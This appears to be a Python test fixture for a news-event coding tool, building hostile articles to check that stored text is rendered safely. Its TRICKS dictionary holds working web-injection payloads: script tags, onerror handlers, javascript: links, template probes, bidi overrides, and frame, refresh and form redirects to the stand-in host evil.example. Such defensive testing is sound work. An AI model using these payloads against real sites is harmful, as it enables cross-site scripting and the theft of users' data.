"""Articles that try to be more than text, and a coder that makes actors and places of the same."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from dragoman import ontology
from dragoman.records import (
    Actor,
    Arg,
    Article,
    Coding,
    Event,
    EventDate,
    Extent,
    Place,
    Span,
    Statement,
    Versions,
)

ELSEWHERE = "evil.example"
#: Each would set window.hacked, hide the page, leave it or ask another server, were it not shown as text.
TRICKS = {
    "script": "<script>window.hacked=1</script>",
    "closing": "</script></title></textarea></template><script>window.hacked=1</script>",
    "event": '"><img src=x onerror="window.hacked=1"><svg onload=window.hacked=1>',
    "attribute": "' onmouseover='window.hacked=1' autofocus onfocus='window.hacked=1' x='",
    "style": '</style><style>*{display:none!important}</style><b style="position:fixed;inset:0">',
    "frame": f"<iframe src=//{ELSEWHERE}/></iframe><base href=//{ELSEWHERE}/>",
    "refresh": f'<meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/">',
    "image": f"<img src=//{ELSEWHERE}/x.png><link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    "link": '<a href="javascript:window.hacked=1" id="evil">here</a>',
    "form": f'</form><form action="//{ELSEWHERE}/"><input name=form_token>',
    "template": "{{7*7}}{% raw %}${7*7}",
    "entities": "&lt;b&gt; &amp;#60; &#x3c;i&#x3e;",
    "comment": "<!-- --!> ]]> <![CDATA[ <?php",
    "overrides": "\u202e\u2066\u202dgnorw\u2067 \u200f\u061c",
    "control": "\x07\x1b[31m \ufffe",
}
WORD = "a" * 1_000_000
#: Where the acts of `Coder` are.
ACT, SAYS = "struck", "said"


def rows() -> list[dict[str, Any]]:
    """An article for each trick, which is in its title, outlet, address and text, and a very long word."""
    out = []
    for name, trick in TRICKS.items():
        out.append(
            {
                "id": f"{name} {trick}",
                "published": "2021-07-04",
                "title": f"Title {trick} of it",
                "source": f"Outlet {trick}",
                "url": f"javascript:window.hacked=1//{trick}",
                "text": f"First {trick} {ACT} other {trick} here.\n\nSecond {trick} {SAYS} third {trick}.",
            }
        )
    out.append(
        {
            "id": "long",
            "published": "2021-07-05",
            "title": f"Long {WORD[:900_000]}",
            "source": "long",
            "url": "https://example.org/long",
            "text": f"First {WORD[:5000]} {ACT} other here.\n\nSecond {SAYS} {WORD}.",
        }
    )
    return out


def fill(path: Path) -> None:
    """Store all of it. The reader turns most of it away, but codings come from elsewhere as well."""
    import dragoman
    from dragoman.reading import Details
    from dragoman.reading.articles import stable_id
    from dragoman.store.writing import Writer

    coder = Coder()
    with dragoman.open(path) as project:
        writer = Writer(project.connection, kind="add", settings={})
        for row in rows():
            row["body"] = row.pop("text")
            article = Article(**row)
            key = stable_id(article.title, article.body, article.source, article.published)
            record = coder.code_article(article).to_dict()
            writer.store(article, key, Details(), (TRICKS["script"], 1), record)
        writer.end()
        project.merge()


class Coder:
    """What is before "struck" acts on what is behind; what is before "said" says what is behind."""

    def versions(self) -> Versions:
        return Versions("0", "hostile-1", "plover", "none")

    def code_article(self, article: Article) -> Coding:
        text = article.text
        actors: dict[str, Actor] = {}

        def arg(start: int, end: int) -> Arg:
            name = text[start:end]
            key = f"who {name[:100]}"
            actors[key] = Actor(key, name, "person", ("RUS",), ("GOV",))
            return Arg(start, end, name, key)

        first, second = article.title_end + 2 if article.title_end else 0, text.rindex("\n\n") + 2
        act, said = text.index(f" {ACT} ", first) + 1, text.index(f" {SAYS} ", second) + 1
        behind = act + len(ACT) + 1
        here = text.rindex("here.", behind, second)
        kind = ontology.TYPES["ASSAULT"]
        place = text[behind : here - 1]
        event = Event(
            id="e1", type=kind.name, trigger=Span.at(text, act, act + len(ACT)), quad=kind.quad,
            score=kind.score, cameo=kind.cameo, sentence=Extent(first, here + 5),
            actors=(arg(first, act - 1),), recipients=(arg(behind, here - 1),),
            places=(Place(here, here + 4, "here", "BLR", place, 53.9, 27.6, 625144),),
            date=EventDate("2021-07-03", "day", "time"), numbers={"killed": 3}, event="e1", confidence=0.4,
        )  # fmt: skip
        content = Span.at(text, said + len(SAYS) + 1, len(text) - 1)
        statement = Statement(
            "s1", "indirect", (content,), cue=Span.at(text, said, said + len(SAYS)),
            speaker=arg(second, said - 1), about=(event.actors[0].actor,), stance="-", confidence=0.4,
        )  # fmt: skip
        return Coding(article, tuple(actors.values()), (event,), (statement,), self.versions())
